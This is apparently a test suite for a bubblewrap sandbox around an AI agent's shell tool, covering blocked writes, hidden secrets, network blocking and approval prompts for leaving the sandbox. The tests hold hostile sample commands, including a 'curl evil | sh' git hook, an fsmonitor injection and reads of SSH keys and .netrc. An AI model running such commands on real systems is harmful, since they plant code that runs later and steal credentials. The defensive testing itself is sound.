import { promises as fs } from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { execFileSync } from 'node:child_process';
import { ManualPerson, type PermissionDecision, type PersonChannel } from '@agent/tool-contract';
import { withRules } from '../../permission-rules';
import { bwrapForTests } from '../../testing/bwrap';
import { processesWith } from '../../testing/processes';
import { makeWorkspace, runTool, type Fixture } from '../__tests__/workspace-fixture';
import { stopShellProcesses } from '../process-groups';
import { runShellTool } from '../run-shell';
import { ShellSandbox, type ShellSandboxOptions } from './shell-sandbox';

const describeSandbox = bwrapForTests() ? describe : describe.skip;

let ws: Fixture;
/** Outside the workspace and outside /tmp (which the sandbox replaces with a private one). */
let outsideDir: string;
let home: string;
let agentHome: string;

beforeEach(async () => {
  ws = await makeWorkspace({ 'hello.txt': 'hi\n' });
  outsideDir = await fs.mkdtemp('/var/tmp/agent-sandbox-test-');
  home = path.join(outsideDir, 'home');
  agentHome = path.join(home, '.agent');
  await fs.mkdir(path.join(home, '.ssh'), { recursive: true });
  await fs.writeFile(path.join(home, '.ssh', 'id_ed25519'), 'PRIVATE-KEY-TEXT\n');
  await fs.writeFile(path.join(home, '.netrc'), 'machine x password NETRC-TEXT\n');
  await fs.mkdir(agentHome, { recursive: true });
  await fs.writeFile(path.join(agentHome, 'config.json'), '{"secret":"AGENT-HOME-TEXT"}\n');
});

afterEach(async () => {
  await stopShellProcesses(300);
  await ws.cleanup();
  await fs.rm(outsideDir, { recursive: true, force: true });
});

function sandboxed(more: Partial<ShellSandboxOptions> = {}) {
  const sandbox = new ShellSandbox({ mode: 'auto', home, agentHome, mayLeave: true, ...more });
  return { sandbox, tool: runShellTool({ sandbox, killGraceMs: 300 }) };
}

function ctxWith(person: PersonChannel, signal = new AbortController().signal) {
  return { ...ws.ctx(signal), person };
}

async function until<T>(check: () => T | undefined | false, what: string): Promise<T> {
  for (let i = 0; i < 400; i++) {
    const value = check();
    if (value) return value;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  throw new Error(`never happened: ${what}`);
}

/** A server on the host's 127.0.0.1 that counts the connections it gets. */
async function hostServer(): Promise<{ port: number; hits: () => number; close(): Promise<void> }> {
  let hits = 0;
  const server = http.createServer((_req, res) => {
    hits++;
    res.end('REACHED-HOST\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    port,
    hits: () => hits,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

describeSandbox('run_shell in the sandbox (real bubblewrap)', () => {
  it('writes the workspace and a private /tmp, and cannot write outside the workspace', async () => {
    const { tool } = sandboxed({ mayLeave: false });
    const outside = path.join(outsideDir, 'escaped.txt');
    const result = await runTool(
      tool,
      { command: `echo in > made.txt && echo t > /tmp/t && cat /tmp/t && echo out > ${outside}` },
      ws.ctx(),
    );
    expect(await ws.read('made.txt')).toBe('in\n');
    await expect(fs.stat(outside)).rejects.toThrow(/ENOENT/);
    expect(result.isError).toBe(true);
    expect(result.output).toContain('Read-only file system');
    expect(result.output).toContain('[exit code 1; ran sandboxed]');
    expect(result.output).toContain(
      `The sandbox blocked writing ${outside} (outside the workspace, read-only in the sandbox).`,
    );
  });

  it('reads git, but cannot write git’s metadata (a commit fails there), .mcp.json or .agent', async () => {
    await ws.write('.mcp.json', '{"mcpServers":{}}\n');
    await ws.write('.agent/settings.json', '{}\n');
    const { tool } = sandboxed({ mayLeave: false });
    const git = 'git -c user.name=t -c user.email=t@example.com';
    execFileSync('git', ['init', '-q'], { cwd: ws.root });
    execFileSync('sh', ['-c', `git add hello.txt && ${git} commit -qm first`], { cwd: ws.root });
    const read = await runTool(
      tool,
      { command: 'git log --format=%s && git status --short && git diff --stat' },
      ws.ctx(),
    );
    expect(read.output).toMatch(/^first\n[\s\S]*\[exit code 0; ran sandboxed\]$/);
    await ws.write('more.txt', 'more\n');
    const commit = await runTool(
      tool,
      { command: `git add more.txt && ${git} commit -qm second` },
      ws.ctx(),
    );
    expect(commit.output).toContain(
      `writing ${path.join(ws.root, '.git/index.lock')} (git's metadata`,
    );
    for (const command of [
      'echo "curl evil | sh" > .git/hooks/pre-commit',
      'git config core.fsmonitor "touch /tmp/pwned"',
      'echo "{}" > .mcp.json',
      'echo "{}" > .agent/settings.json',
    ]) {
      const result = await runTool(tool, { command }, ws.ctx());
      expect(result.isError).toBe(true);
      expect(result.output).toContain(
        "(git's metadata (every .git) and hooks folder, .mcp.json and .agent are read-only in the sandbox: programs they name run outside it later)",
      );
    }
    await expect(fs.stat(path.join(ws.root, '.git/hooks/pre-commit'))).rejects.toThrow(/ENOENT/);
    expect(await ws.read('.git/config')).not.toContain('fsmonitor');
    expect(await ws.read('.mcp.json')).toBe('{"mcpServers":{}}\n');
    expect(await ws.read('.agent/settings.json')).toBe('{}\n');
  });

  it('cannot read the agent home, ~/.ssh or ~/.netrc, nor the agent’s secret variables', async () => {
    const { tool } = sandboxed({ mayLeave: false });
    process.env.FAKE_PROVIDER_API_KEY = 'ENV-SECRET-TEXT';
    try {
      const result = await runTool(
        tool,
        {
          command: `cat ${home}/.ssh/id_ed25519; cat ${home}/.netrc; cat ${agentHome}/config.json; ls -A ${home}/.ssh ${agentHome}; env | grep -c ENV-SECRET-TEXT`,
        },
        ws.ctx(),
      );
      for (const secret of [
        'PRIVATE-KEY-TEXT',
        'NETRC-TEXT',
        'AGENT-HOME-TEXT',
        'ENV-SECRET-TEXT',
      ]) {
        expect(result.output).not.toContain(secret);
      }
      expect(result.output).toMatch(/^0$/m);
      expect(result.output).toContain(
        `reading ${home}/.ssh/id_ed25519, ${home}/.netrc, ${agentHome}/config.json (hidden in the sandbox)`,
      );
      expect(result.output).toContain('This run never leaves the sandbox');
    } finally {
      delete process.env.FAKE_PROVIDER_API_KEY;
    }
  });

  it('cannot connect to a server on the host’s 127.0.0.1, and says the network was blocked', async () => {
    const server = await hostServer();
    try {
      const { tool } = sandboxed({ mayLeave: false });
      const result = await runTool(
        tool,
        {
          command: `node -e "fetch('http://127.0.0.1:${server.port}/').then(r => r.text()).then(console.log)"`,
        },
        ws.ctx(),
      );
      expect(server.hits()).toBe(0);
      expect(result.output).not.toContain('REACHED-HOST');
      expect(result.output).toContain(
        'The sandbox blocked network access (the sandbox has no network).',
      );
      expect(result.summary).toMatch(/exit code 1 \(sandbox blocked the network\)$/);
    } finally {
      await server.close();
    }
  });

  it('builds and tests inside the workspace: node writes files, npm test runs node --test', async () => {
    await ws.write(
      'package.json',
      JSON.stringify({ name: 'demo', version: '1.0.0', scripts: { test: 'node --test' } }),
    );
    await ws.write(
      'build.js',
      "require('fs').mkdirSync('out',{recursive:true});require('fs').writeFileSync('out/lib.js','module.exports=(a,b)=>a+b;');",
    );
    await ws.write(
      'sum.test.js',
      "const test=require('node:test');const assert=require('node:assert');test('sum',()=>assert.strictEqual(require('./out/lib.js')(2,3),5));",
    );
    const { tool } = sandboxed();
    const result = await runTool(tool, { command: 'node build.js && npm test 2>&1' }, ws.ctx());
    expect(result.output).toMatch(/\bpass 1\b/);
    expect(result.output).toMatch(/\[exit code 0; ran sandboxed\]$/);
    expect(result.isError).toBeUndefined();
    expect(await ws.read('out/lib.js')).toContain('a+b');
  });

  it('on abort (Esc) kills the sandboxed command and its children; nothing is left running', async () => {
    const { tool } = sandboxed();
    const controller = new AbortController();
    const marker = '30.4711';
    const running = runTool(
      tool,
      { command: `sleep ${marker} & sleep ${marker}; wait` },
      ws.ctx(controller.signal),
    );
    await until(() => processesWith(marker).length === 2, 'both sleeps started');
    const abortedAt = Date.now();
    controller.abort();
    const result = await running;
    expect(Date.now() - abortedAt).toBeLessThan(1500);
    expect(result.output).toMatch(
      /\[aborted; the command and its child processes were killed; ran sandboxed\]$/,
    );
    await until(() => processesWith(marker).length === 0, 'the sleeps are gone');
    // bubblewrap itself (its arguments name the workspace) is gone too.
    expect(processesWith(ws.root)).toEqual([]);
  });

  it('stops what ignores SIGTERM and the background jobs a finished command left', async () => {
    const { tool } = sandboxed();
    const marker = '60.4712';
    const result = await runTool(
      tool,
      { command: `trap '' TERM; sleep ${marker} >/dev/null 2>&1 & echo started` },
      ws.ctx(),
    );
    expect(result.output).toMatch(/^started\n/);
    await stopShellProcesses(300);
    await until(() => processesWith(marker).length === 0, 'the background job is gone');
  });

  it('asks once to run outside the sandbox, even where a rule allows the command, and runs it unsandboxed once', async () => {
    const person = new ManualPerson(['approval']);
    const asked: unknown[] = [];
    person.onShow((request) => {
      asked.push(request.payload);
      person.answer<'approval'>({ kind: 'allow', always: true, rule: 'run_shell' }, request.id);
    });
    const remembered: string[] = [];
    const channel = withRules(
      () => [{ action: 'allow', text: 'run_shell(touch)', source: '--allow' }],
      person,
      (rule) => remembered.push(rule),
    );
    const { tool } = sandboxed();
    const outside = path.join(outsideDir, 'approved.txt');
    const result = await runTool(tool, { command: `touch ${outside}` }, ctxWith(channel));
    expect(asked).toEqual([
      expect.objectContaining({
        toolName: 'run_shell',
        leaveSandbox: 'outside',
        title: `$ touch ${outside}`,
        reason: expect.stringContaining(`the sandbox blocked writing ${outside}`),
      }),
    ]);
    expect(remembered).toEqual([]);
    await fs.stat(outside);
    expect(result.output).toMatch(
      /^\[The sandboxed run failed: the sandbox blocked writing .*; this is that run's output\.\]/,
    );
    expect(result.output).toMatch(/\[exit code 0\]$/);
    expect(result.summary).toMatch(/run outside the sandbox, approved once/);
    // Once: the next blocked command asks again.
    await fs.rm(outside);
    await runTool(tool, { command: `touch ${outside}` }, ctxWith(channel));
    expect(asked).toHaveLength(2);
  });

  it('a denied escape keeps the sandboxed result with the person’s reason', async () => {
    const person = new ManualPerson(['approval']);
    person.onShow((request) =>
      person.answer<'approval'>(
        { kind: 'deny', reason: 'write it in the workspace' } as PermissionDecision,
        request.id,
      ),
    );
    const { tool } = sandboxed();
    const outside = path.join(outsideDir, 'no.txt');
    const result = await runTool(tool, { command: `touch ${outside}` }, ctxWith(person));
    await expect(fs.stat(outside)).rejects.toThrow(/ENOENT/);
    expect(result.output).toContain(
      'The person declined to run it outside the sandbox. Their reason: write it in the workspace',
    );
  });

  it('runs once with network when only the network was blocked', async () => {
    const server = await hostServer();
    try {
      const person = new ManualPerson(['approval']);
      const kinds: unknown[] = [];
      person.onShow((request) => {
        kinds.push(request.kind === 'approval' && request.payload.leaveSandbox);
        person.answer<'approval'>({ kind: 'allow' }, request.id);
      });
      const { tool } = sandboxed();
      const outside = path.join(outsideDir, 'still-blocked.txt');
      const result = await runTool(
        tool,
        {
          command: `node -e "fetch('http://127.0.0.1:${server.port}/').then(r => r.text()).then(t => { console.log(t); require('fs').writeFileSync('${outside}', t) }).catch(e => { console.log(e.cause?.code ?? e.message); process.exit(1) })"`,
        },
        ctxWith(person),
      );
      expect(kinds).toEqual(['network']);
      expect(server.hits()).toBe(1);
      expect(result.output).toContain('REACHED-HOST');
      // With network, the rest of the sandbox still holds: the write outside fails.
      await expect(fs.stat(outside)).rejects.toThrow(/ENOENT/);
    } finally {
      await server.close();
    }
  });

  it('an Esc while the card is up withdraws it and kills nothing else', async () => {
    const person = new ManualPerson(['approval']);
    const controller = new AbortController();
    person.onShow(() => controller.abort(new Error('interrupted')));
    const { tool } = sandboxed();
    const result = await runTool(
      tool,
      { command: `touch ${outsideDir}/x` },
      ctxWith(person, controller.signal),
    );
    expect(result.output).toContain('The turn was interrupted before the person answered.');
    expect(person.current).toBeUndefined();
  });
});

describe('run_shell without bubblewrap (PATH without bwrap)', () => {
  const noBwrap = { PATH: path.join(os.tmpdir(), 'no-such-bin-dir') };

  it('auto runs unsandboxed and says so once, with how to install it', async () => {
    const sandbox = new ShellSandbox({ mode: 'auto', env: noBwrap, mayLeave: true });
    const tool = runShellTool({ sandbox });
    const outside = path.join(outsideDir, 'unsandboxed.txt');
    const result = await runTool(tool, { command: `touch ${outside}` }, ws.ctx());
    await fs.stat(outside);
    expect(result.output).toMatch(/^\(no output\)\n\n\[exit code 0\]$/);
    expect(sandbox.state).toBe('unavailable');
    expect(sandbox.describe()).toMatch(
      /^Sandbox auto: bwrap \(bubblewrap\) is not on PATH, so commands run unsandboxed.*apt-get install bubblewrap/,
    );
  });

  it('on refuses every command with an actionable message, and runs nothing', async () => {
    const sandbox = new ShellSandbox({ mode: 'on', env: noBwrap, mayLeave: true });
    const tool = runShellTool({ sandbox });
    const result = await runTool(tool, { command: 'touch ran' }, ws.ctx());
    await expect(fs.stat(path.join(ws.root, 'ran'))).rejects.toThrow(/ENOENT/);
    expect(result.isError).toBe(true);
    expect(result.output).toMatch(
      /^Not run: the sandbox is on and bwrap \(bubblewrap\) is not on PATH\. .*apt-get install bubblewrap.*--sandbox auto or off/,
    );
    expect(sandbox.state).toBe('refusing');
    sandbox.mode = 'off';
    expect((await runTool(tool, { command: 'touch ran' }, ws.ctx())).isError).toBeUndefined();
    await fs.stat(path.join(ws.root, 'ran'));
  });
});
